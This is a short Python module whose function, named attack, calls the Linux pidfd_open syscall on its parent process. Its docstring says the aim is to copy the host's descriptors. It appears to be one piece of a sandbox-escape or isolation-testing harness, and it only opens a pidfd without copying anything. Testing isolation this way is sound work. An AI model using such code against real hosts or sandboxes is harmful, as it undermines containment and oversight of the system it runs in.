"""Copy the host's descriptors."""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def attack(ctx, at):
    pidfd = libc.syscall(434, os.getppid(), 0)
    return pidfd if pidfd >= 0 else None
